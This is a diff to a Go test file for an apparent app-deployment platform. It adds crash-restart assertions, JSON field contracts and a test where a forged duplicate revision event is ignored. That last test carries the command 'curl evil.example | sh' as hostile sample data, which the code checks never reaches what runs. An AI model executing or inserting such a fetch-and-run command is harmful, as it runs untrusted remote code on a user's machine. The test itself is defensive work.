@@ -397,6 +397,10 @@ func TestRunnerViewCountsRestarts(t *testing.T) {
 		if r := model.Runners("demo", false)[0]; r.State != events.RunnerCrashBackoff || r.Restarts != 1 {
 			t.Fatalf("after one crash: %+v", r)
 		}
+		// The revision shows it is crash-looping.
+		if v := mustRevision(t, model, "demo", rev1); v.CrashBackoff != 1 || v.Restarts != 1 || v.LastCrash != "exited: exit status 3; restarting in 1s" {
+			t.Fatalf("revision of a crashing runner: crash_backoff %d, restarts %d, last crash %q", v.CrashBackoff, v.Restarts, v.LastCrash)
+		}
 		f.runner("demo", "r1", rev1, events.RunnerIdle, 102, 8002)
 		crash("exited: signal: killed; restarting in 2s")
 		f.runner("demo", "r1", rev1, events.RunnerIdle, 103, 8003)
@@ -404,6 +408,9 @@ func TestRunnerViewCountsRestarts(t *testing.T) {
 		r := model.Runners("demo", false)[0]
 		if r.State != events.RunnerIdle || r.Restarts != 2 || r.LastCrash != "exited: signal: killed; restarting in 2s" || r.PID != 103 {
 			t.Fatalf("after two crashes and restarts: %+v", r)
+		}
+		if v := mustRevision(t, model, "demo", rev1); v.CrashBackoff != 0 || v.Restarts != 2 {
+			t.Fatalf("revision after its runner came back: crash_backoff %d, restarts %d", v.CrashBackoff, v.Restarts)
 		}
 	})
 }
@@ -694,14 +701,16 @@ func TestViewsJSONContract(t *testing.T) {
 		{"revision", mustRevision(t, model, "demo", rev1), []string{
 			"number", "revision_id", "status", "current", "created_at", "created_by", "machine_type", "max_multiplexing",
 			"startup_timeout", "keep_alive", "min_concurrency", "max_concurrency", "concurrency_buffer",
-			"request_timeout", "message", "annotations", "command", "runners", "fail_reason", "deleted",
+			"concurrency_buffer_perc", "scaling_delay",
+			"request_timeout", "message", "annotations", "command", "runners", "crash_backoff", "restarts", "fail_reason", "deleted",
 		}},
 		{"runner", model.Runners("demo", true)[0], []string{
 			"runner_id", "revision_id", "state", "started_at", "updated_at", "pid", "port", "in_flight", "restarts",
 		}},
 		{"app", mustApp(t, model, "demo"), []string{
 			"name", "current_revision", "revisions", "runners", "suspended", "updated_at", "updated_by",
-			"keep_alive", "min_concurrency", "max_concurrency", "concurrency_buffer", "request_timeout",
+			"keep_alive", "min_concurrency", "max_concurrency", "concurrency_buffer", "concurrency_buffer_perc",
+			"scaling_delay", "request_timeout",
 		}},
 	}
 	for _, tt := range tests {
@@ -797,4 +806,26 @@ func TestDiffRevisions(t *testing.T) {
 	if same := projections.DiffRevisions(a, a); len(same) != 0 {
 		t.Fatalf("a revision differs from itself: %+v", same)
 	}
+}
+
+// A second revision.created of an id (the decider never makes one; only a
+// writer with the server's rights could) is skipped by the read model and
+// by the aggregate's fold alike: what runs is what list-rev shows.
+func TestADuplicateRevisionIsSkippedByEveryFold(t *testing.T) {
+	t.Parallel()
+	forEachStore(t, func(t *testing.T, f *fixture) {
+		model := f.live()
+		f.deploy("demo", rev1, "alice", codeSmall, runtimeA)
+		f.append("demo", "mallory", events.RevisionCreated{RevisionID: rev1, Command: "curl evil.example | sh", Code: codeSmall, Runtime: runtimeA, Strategy: events.StrategyRolling})
+		f.caughtUp(model)
+		history, err := f.store.Load(f.ctx, "demo", 0)
+		if err != nil {
+			t.Fatal(err)
+		}
+		folded := aggregates.Fold("demo", history).Revisions[rev1]
+		shown := mustRevision(t, model, "demo", rev1)
+		if folded.Command != shown.Command || folded.Number != shown.Number || strings.Contains(shown.Command, "evil") {
+			t.Fatalf("the aggregate runs %q (v%d), list-rev shows %q (v%d)", folded.Command, folded.Number, shown.Command, shown.Number)
+		}
+	})
 }
